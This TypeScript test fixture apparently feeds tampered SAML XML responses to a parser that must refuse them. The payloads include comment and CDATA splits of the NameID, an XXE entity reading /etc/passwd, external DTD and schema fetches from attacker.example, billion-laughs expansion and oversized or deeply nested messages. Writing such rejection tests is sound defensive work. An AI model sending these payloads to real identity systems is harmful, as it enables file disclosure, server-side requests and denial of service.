/** What must be refused before the parser, or by it. */
import type { RefusalCode } from '../../../../src/federation/saml/codes.ts';
import { encodePost, responseXml } from '../messages.ts';
import { clear, type Mutant } from './mutant.ts';
import { digestText } from './signatures.ts';
import { tampered } from './tampered.ts';

const utf16 = (xml: string): string =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]).toString('base64');
function bytes(id: string, name: string, code: RefusalCode, make: (xml: string) => string): Mutant {
  return { id, name, code, make: (form) => make(responseXml(form.options)) };
}

const doctype = (subset: string): string => `<!DOCTYPE samlp:Response [${subset}]>`;
const nested = (depth: number): string => '<x:n>'.repeat(depth) + '</x:n>'.repeat(depth);
const extension = (inner: string): string =>
  `<samlp:Extensions><x:e xmlns:x="urn:x">${inner}</x:e></samlp:Extensions><samlp:Status>`;

export const xmlMutants: Mutant[] = [
  tampered(
    'SA-02',
    'a comment that cuts the NameID',
    'message.comment',
    (xml) => xml.replace('u-4711', 'u<!---->-4711'),
    clear,
  ),
  tampered('SA-02', 'a comment that cuts the issuer', 'message.comment', (xml) =>
    xml.replace('/entity<', '/en<!-- -->tity<'),
  ),
  tampered(
    'SA-02',
    'a comment in the digest',
    'message.comment',
    digestText((d) => `<!--x-->${d}`),
    (form) => form.responseSigned || clear(form),
  ),
  tampered(
    'SA-02',
    'a comment in an attribute value',
    'message.comment',
    (xml) => xml.replace('ada@acme', 'ada@<!-- -->acme'),
    clear,
  ),
  tampered(
    'SA-02',
    'a CDATA section in the NameID',
    'message.cdata',
    (xml) => xml.replace('u-4711', '<![CDATA[u-4711]]>'),
    clear,
  ),
  tampered(
    'SA-02',
    'a CDATA section in the digest',
    'message.cdata',
    digestText((d) => `<![CDATA[${d}]]>`),
    (form) => form.responseSigned || clear(form),
  ),
  tampered(
    'SA-02',
    'a CDATA section in an attribute value',
    'message.cdata',
    (xml) => xml.replace('ada@acme', '<![CDATA[ada@]]>acme'),
    clear,
  ),
  tampered(
    'SA-02',
    'a processing instruction in the NameID',
    'message.processing_instruction',
    (xml) => xml.replace('u-4711', 'u<?x y?>-4711'),
    clear,
  ),
  tampered(
    'SA-02',
    'a processing instruction in the digest',
    'message.processing_instruction',
    digestText((d) => `<?x?>${d}`),
    (form) => form.responseSigned || clear(form),
  ),
  tampered(
    'SA-02',
    'a processing instruction before the root',
    'message.processing_instruction',
    (xml) => `<?xml-stylesheet href="https://attacker.example/"?>${xml}`,
  ),
  tampered('SA-02', 'a comment before the root', 'message.comment', (xml) => `<!-- -->${xml}`),
  tampered('SA-02', 'a comment after the root', 'message.comment', (xml) => `${xml}<!-- -->`),
  tampered('SA-02', 'a comment in an unsigned place', 'message.comment', (xml) =>
    xml.replace('<samlp:Status>', '<!-- --><samlp:Status>'),
  ),
  tampered('SA-03', 'an empty DOCTYPE', 'message.doctype', (xml) => `<!DOCTYPE samlp:Response>${xml}`),
  tampered(
    'SA-03',
    'an external entity',
    'message.doctype',
    (xml) => doctype('<!ENTITY x SYSTEM "file:///etc/passwd">') + xml.replace('/entity<', '/&x;<'),
  ),
  tampered(
    'SA-03',
    'an external parameter entity',
    'message.doctype',
    (xml) => doctype('<!ENTITY % x SYSTEM "https://attacker.example/x.dtd">%x;') + xml,
  ),
  tampered(
    'SA-03',
    'billion laughs',
    'message.doctype',
    (xml) =>
      doctype('<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">') +
      xml.replace('/entity<', '/&c;<'),
  ),
  tampered(
    'SA-03',
    'a DOCTYPE with an ATTLIST that makes an ID',
    'message.doctype',
    (xml) => doctype('<!ATTLIST saml:Assertion other ID #IMPLIED>') + xml,
  ),
  tampered('SA-03', 'a DOCTYPE in lower case', 'message.doctype', (xml) => `<!doctype samlp:Response>${xml}`),
  tampered(
    'SA-03',
    'a DOCTYPE behind the XML declaration',
    'message.doctype',
    (xml) => `<?xml version="1.0"?>\n<!DOCTYPE x>${xml}`,
  ),
  tampered('SA-03', 'an undeclared entity', 'message.not_well_formed', (xml) => xml.replace('/entity<', '/&x;<')),
  tampered('SA-03', 'an HTML entity', 'message.not_well_formed', (xml) => xml.replace('/entity<', '/&nbsp;<')),
  tampered(
    'SA-03',
    'an XML declaration of another encoding',
    'message.processing_instruction',
    (xml) => `<?xml version="1.0" encoding="ISO-8859-1"?>${xml}`,
  ),
  tampered(
    'SA-03',
    'an XML declaration of UTF-7',
    'message.processing_instruction',
    (xml) => `<?xml version="1.0" encoding="UTF-7"?>${xml}`,
  ),
  tampered('SA-03', 'XML 1.1', 'message.processing_instruction', (xml) => `<?xml version="1.1"?>${xml}`),
  tampered(
    'SA-03',
    'two XML declarations',
    'message.processing_instruction',
    (xml) => `<?xml version="1.0"?><?xml version="1.0"?>${xml}`,
  ),
  tampered('SA-03', 'a null byte', 'message.not_well_formed', (xml) => xml.replace('/entity<', '/en\u0000tity<')),
  tampered('SA-03', 'a null byte after the root', 'message.not_well_formed', (xml) => `${xml}\u0000<x/>`),
  tampered('SA-03', 'a forbidden control character', 'message.not_well_formed', (xml) =>
    xml.replace('/entity<', '/en\u0001tity<'),
  ),
  tampered('SA-03', 'a reference to a forbidden character', 'message.not_well_formed', (xml) =>
    xml.replace('/entity<', '/en&#0;tity<'),
  ),
  tampered('SA-03', 'a byte order mark', 'message.charset', (xml) => `\ufeff${xml}`),
  tampered('SA-03', 'text after the root', 'message.not_well_formed', (xml) => `${xml}x`),
  tampered(
    'SA-03',
    'two roots',
    'message.not_well_formed',
    (xml) => xml + xml.replaceAll('_r1', '_r2').replaceAll('_a1', '_a2'),
  ),
  tampered('SA-03', 'an attribute given twice', 'message.not_well_formed', (xml) =>
    xml.replace('Version="2.0"', 'Version="2.0" Version="2.0"'),
  ),
  tampered('SA-03', 'one attribute by two prefixes', 'message.not_well_formed', (xml) =>
    xml.replace('<samlp:Status>', extension('<x:a xmlns:p="urn:p" xmlns:q="urn:p" p:b="1" q:b="2"/>')),
  ),
  tampered('SA-03', 'an undeclared prefix', 'message.not_well_formed', (xml) =>
    xml.replace('<samlp:Status>', extension('<zz:a/>')),
  ),
  tampered('SA-03', 'a relative namespace', 'message.not_well_formed', (xml) =>
    xml.replace('<samlp:Status>', extension('<a xmlns="../x"/>')),
  ),
  tampered('SA-03', 'what a parser only warns of', 'message.not_well_formed', (xml) =>
    xml.replace('<samlp:Status>', extension('<x:a xml:space="perhaps"/>')),
  ),
  tampered(
    'SA-03',
    'a character that only one of two parsers takes for the end of a line',
    'message.ambiguous',
    (xml) => xml.replace('<samlp:Status>', extension('a\u2028b')),
  ),
  tampered('SA-03', 'an element without a namespace', 'message.namespace', (xml) =>
    xml.replace('<samlp:Status>', extension('<a/>')),
  ),
  tampered('SA-03', 'xsi:schemaLocation', 'message.schema', (xml) =>
    xml.replace(
      '<samlp:Status>',
      extension(
        '<x:a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x https://attacker.example/x.xsd"/>',
      ),
    ),
  ),
  tampered('SA-03', 'cut off in the middle', 'message.not_well_formed', (xml) =>
    xml.slice(0, Math.floor(xml.length / 2)),
  ),
  bytes('SA-03', 'UTF-16', 'message.charset', utf16),
  bytes('SA-03', 'UTF-16 without a byte order mark', 'message.not_well_formed', (xml) =>
    Buffer.from(xml, 'utf16le').toString('base64'),
  ),
  bytes('SA-03', 'Latin-1', 'message.charset', (xml) =>
    Buffer.from(xml.replace('/entity<', '/entit\u00e9<'), 'latin1').toString('base64'),
  ),
  bytes('SA-03', 'an overlong UTF-8 form', 'message.charset', (xml) =>
    Buffer.concat([Buffer.from(xml), Buffer.from([0xc0, 0xbc])]).toString('base64'),
  ),
  bytes('SA-03', 'a surrogate in UTF-8', 'message.charset', (xml) =>
    Buffer.concat([Buffer.from(xml), Buffer.from([0xed, 0xa0, 0x80])]).toString('base64'),
  ),
  bytes('SA-03', 'nothing', 'message.encoding', () => ''),
  bytes('SA-03', 'no base64', 'message.encoding', (xml) => xml),
  bytes('SA-03', 'base64 with spaces', 'message.encoding', (xml) => encodePost(xml).replace(/(.{76})/g, '$1 ')),
  bytes('SA-03', 'base64 after a tab', 'message.encoding', (xml) => `\t${encodePost(xml)}`),
  bytes('SA-03', 'base64 with characters in between', 'message.encoding', (xml) => `*${encodePost(xml)}`),
  bytes(
    'SA-03',
    'base64 without its padding',
    'message.encoding',
    (xml) => encodePost(`${xml}${' '.repeat(3 - (xml.length % 3 || 3) + 1)}`).replace(/=+$/, '') + '=x',
  ),
  bytes('SA-03', 'URL-safe base64', 'message.encoding', (xml) => `${encodePost(xml)}-_`),
  bytes(
    'SA-03',
    'base64 followed by more',
    'message.encoding',
    (xml) => `${encodePost(`${xml}  `.slice(0, xml.length + 2 - ((xml.length + 1) % 3)))}====`,
  ),
  bytes('SA-03', 'deflated instead of plain', 'message.charset', () =>
    Buffer.from([0x7d, 0x52, 0xcb, 0x6e, 0xdb, 0x30]).toString('base64'),
  ),
  tampered('SA-10', 'nested 70 deep', 'message.limits', (xml) => xml.replace('<samlp:Status>', extension(nested(70)))),
  tampered('SA-10', 'nested 10,000 deep', 'message.limits', (xml) =>
    xml.replace('<samlp:Status>', extension(nested(10_000))),
  ),
  tampered('SA-10', '20,001 elements', 'message.limits', (xml) =>
    xml.replace('<samlp:Status>', extension('<x:n/>'.repeat(20_001))),
  ),
  tampered('SA-10', '65 attributes on one element', 'message.limits', (xml) =>
    xml.replace('<samlp:Status>', extension(`<x:n ${Array.from({ length: 65 }, (_n, i) => `a${i}=""`).join(' ')}/>`)),
  ),
  tampered('SA-10', '4,100 namespaces', 'message.limits', (xml) =>
    xml.replace(
      '<samlp:Status>',
      extension(Array.from({ length: 4100 }, (_n, i) => `<x:n xmlns:a${i}="urn:${i}"/>`).join('')),
    ),
  ),
  tampered('SA-10', '300 KiB', 'message.too_large', (xml) =>
    xml.replace('<samlp:Status>', extension('x'.repeat(300 * 1024))),
  ),
  tampered('SA-10', '10 MiB', 'message.too_large', (xml) =>
    xml.replace('<samlp:Status>', extension('x'.repeat(10 * 1024 * 1024))),
  ),
];
